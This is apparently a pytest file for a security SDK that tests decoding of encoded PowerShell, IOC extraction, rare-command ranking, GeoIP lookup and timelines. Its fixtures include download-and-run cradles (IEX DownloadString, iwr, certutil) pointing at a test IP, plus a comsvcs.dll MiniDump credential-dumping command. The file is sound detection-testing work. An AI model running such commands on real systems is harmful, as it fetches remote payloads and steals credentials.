"""The stages one by one, on the real sample events and small hand-made frames."""

from __future__ import annotations

import base64
from pathlib import Path

import pandas as pd

from asisdk.data import sample_events_frame
from asisdk.executors import InlineExecutor
from asisdk.geo import GeoIpDatabase
from asisdk.pipeline import (
    DECODED_COLUMNS,
    IOC_COLUMNS,
    PATTERN_COLUMNS,
    decode_events,
    extract_iocs,
    find_patterns,
    geolocate_iocs,
    load_frame,
    summarise_iocs,
)


def _utf16_b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_decode_links_every_layer_to_its_source_row() -> None:
    loaded = load_frame(sample_events_frame(), source="sample")
    frame = loaded.frame
    decoded = decode_events(frame, ["CommandLine"], executor=InlineExecutor())
    assert tuple(decoded.columns) == DECODED_COLUMNS
    assert len(decoded) > 0
    layers = {(r.src_index, r.layer): r for r in decoded.itertuples()}
    for row in decoded.itertuples():
        assert row.asi_row == frame.at[row.src_index, "asi_row"]
        if row.depth == 1:  # found in the event itself
            assert row.encoded.split("...")[0] in frame.at[row.src_index, "CommandLine"]
        else:  # found in its parent layer of the same event
            parent = layers[(row.src_index, row.parent)]
            assert row.encoded.split("...")[0] in parent.decoded_text
    assert (decoded["depth"] > 1).any()
    empire = decoded[decoded["decoded_text"].str.contains("PSVERSiOnTaBlE", case=False, na=False)]
    assert not empire.empty
    assert set(empire["encoding"]) == {"base64"}


def test_decode_runs_each_distinct_text_once_but_reports_every_row() -> None:
    payload = _utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://81.2.69.142/a')")
    frame = pd.DataFrame(
        {"CommandLine": [f"powershell -enc {payload}", "whoami", f"powershell -enc {payload}"]}
    )
    decoded = decode_events(frame, ["CommandLine"])
    assert decoded["src_index"].tolist() == [0, 2]
    assert decoded["decoded_text"].str.contains("DownloadString").all()


def test_iocs_come_from_original_and_decoded_text_with_their_source() -> None:
    payload = _utf16_b64("iwr http://81.2.69.142/stage2.ps1 -OutFile C:\\x.ps1")
    frame = pd.DataFrame(
        {
            "CommandLine": [f"powershell -enc {payload}", "ping 216.160.83.56", "notepad"],
            "IpAddress": ["-", "81.2.69.142", None],
        }
    )
    decoded = decode_events(frame, ["CommandLine"])
    hits = extract_iocs(frame, ["CommandLine", "IpAddress"], decoded)
    assert tuple(hits.columns) == IOC_COLUMNS
    decoded_hits = hits[hits["source"] == "decoded"]
    assert set(decoded_hits["observable"]) >= {"http://81.2.69.142/stage2.ps1", "81.2.69.142"}
    assert set(decoded_hits["src_index"]) == {0}
    assert set(decoded_hits["layer"]) == {"1"}

    table = summarise_iocs(hits, frame)
    ip = table[table["observable"] == "81.2.69.142"].iloc[0]
    assert ip["events"] == 2
    assert ip["sources"] == "original+decoded"
    assert ip["columns"] == "CommandLine, IpAddress"
    assert table.iloc[0]["ioc_type"] == "url"  # URLs rank before IPs


def test_patterns_rank_the_rare_ones_first() -> None:
    times = pd.date_range("2024-03-01", periods=12, freq="min", tz="UTC")
    lines = [f"svchost.exe -k netsvcs -p -s Svc{i}" for i in range(10)]
    lines += ["certutil -urlcache -split -f http://81.2.69.142/x.exe", ""]
    frame = pd.DataFrame({"CommandLine": lines, "TimeGenerated": times})
    patterns, labels = find_patterns(
        frame, ["CommandLine"], time_column="TimeGenerated", rare_min_events=1
    )
    assert tuple(patterns.columns) == PATTERN_COLUMNS
    assert patterns["rarity_rank"].tolist() == list(range(1, len(patterns) + 1))
    top = patterns.iloc[0]
    assert top["events"] == 1
    assert top["rare"]
    assert top["template"].startswith("certutil")
    assert top["first_seen"] == times[10]
    assert patterns.iloc[-1]["events"] == 10
    assert not patterns.iloc[-1]["rare"]
    assert labels.iloc[11] == -1  # no text, no pattern
    assert labels.iloc[0] == labels.iloc[9]


def test_patterns_fall_back_to_the_next_text_column() -> None:
    frame = pd.DataFrame({"CommandLine": ["", "a b"], "Message": ["disk full", "ignored"]})
    patterns, labels = find_patterns(frame, ["CommandLine", "Message"])
    assert set(patterns["template"]) == {"disk full", "a b"}
    assert (labels >= 0).all()


def test_geolocation_with_maxminds_test_database(geo_test_db: Path) -> None:
    table = pd.DataFrame(
        {
            "ioc_type": ["ipv4", "ipv4", "dns", "ipv6"],
            "observable": ["81.2.69.142", "10.1.2.3", "example.com", "2001:218::1"],
        }
    )
    with GeoIpDatabase(geo_test_db, stale_after=None) as geo:
        located = geolocate_iocs(table, geo).set_index("observable")
    assert located.loc["81.2.69.142", "city"] == "London"
    assert located.loc["81.2.69.142", "country_code"] == "GB"
    assert located.loc["10.1.2.3", "geo_status"] == "private"
    assert located.loc["2001:218::1", "country_code"] == "JP"
    assert "example.com" not in located.index


def test_timeline_counts_every_event_and_breaks_long_gaps() -> None:
    from asisdk.pipeline._timeline import FINE_BINS, timeline_data

    burst = pd.date_range("2019-03-01", periods=100_000, freq="s", tz="UTC")
    later = pd.date_range("2024-06-01", periods=5, freq="min", tz="UTC")
    times = burst.append(later)
    events = pd.DataFrame(
        {"TimeGenerated": times, "Computer": ["ws1", "ws2"] * (len(times) // 2) + ["ws1"]}
    )
    findings = pd.DataFrame(
        {
            "event_index": [100_002, 7],
            "rank": [1, 2],
            "score": [90, 40],
            "reason_kinds": ["credential_access", "rare_pattern"],
            "command_line": ["rundll32 comsvcs.dll MiniDump", ""],
            "details": ["", ""],
            "image": ["", ""],
        }
    )
    data = timeline_data(
        events,
        time_column="TimeGenerated",
        host_column="Computer",
        findings=findings,
        max_markers=10,
    )
    assert data is not None
    assert data["events"] == len(events)
    assert sum(b[3] for b in data["bins"]) == len(events)  # nothing sampled
    assert len(data["segments"]) == 2  # five years of silence break the axis
    assert max(b[1] for b in data["bins"] if b[0] == 0) < FINE_BINS
    assert [m[2] for m in data["markers"]] == [1, 2]
    assert data["lanes"] == ["ws1", "ws2"]
